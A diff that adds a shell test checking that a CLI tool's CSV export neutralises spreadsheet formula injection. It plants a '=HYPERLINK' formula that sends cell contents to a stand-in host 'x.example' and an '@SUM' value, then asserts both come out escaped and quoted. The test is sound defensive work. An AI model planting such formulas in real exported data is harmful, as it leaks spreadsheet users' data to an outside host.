@@ -74,4 +74,26 @@ def width(s):
 starts = {width(l[:re.search(r"  +", l).end()]) for l in sys.stdin.read().splitlines()}
 print("aligned" if len(starts) == 1 else "starts differ: %s" % sorted(starts))')
 is "$aligned" aligned "the consortium column starts at the same screen column on every row"
+# CSV cells a spreadsheet would run as formulas are text: a leading
+# apostrophe, quoted; numbers (also negative ones) stay numbers.
+tmp=$(mktemp -d)
+/usr/bin/python3 - "$DATA" "$tmp/f.json" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1], encoding="utf-8"))
+m = d["consortia"][0]["models"][0]
+m["license"] = '=HYPERLINK("http://x.example/?leak="&A1,"license")'
+m["name"]["ko"] = m["name"]["en"] = "@SUM(1+1)"
+json.dump(d, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
+PY
+id=$(/usr/bin/python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["consortia"][0]["models"][0]["id"])' "$tmp/f.json")
+out=$("$DOKPAMO" --data "$tmp/f.json" list --filter "id=$id" --format csv 2>/dev/null | sed -n 2p)
+like "$out" "^$id,\"'@SUM\\(1\\+1\\)\"," "a name starting with @ is written as '@..., quoted"
+like "$out" ",\"'=HYPERLINK\\(\"\"http://x\\.example/\\?leak=\"\"&A1,\"\"license\"\"\\)\"," "=HYPERLINK(...) is written as '=..., quoted"
+raw=0
+for c in = + - @; do
+    printf '%s' "$out" | grep -q -- ",$c" && raw=1
+done
+ok $raw "no CSV cell starts with = + - or @"
+rm -rf "$tmp"
+
 done_testing
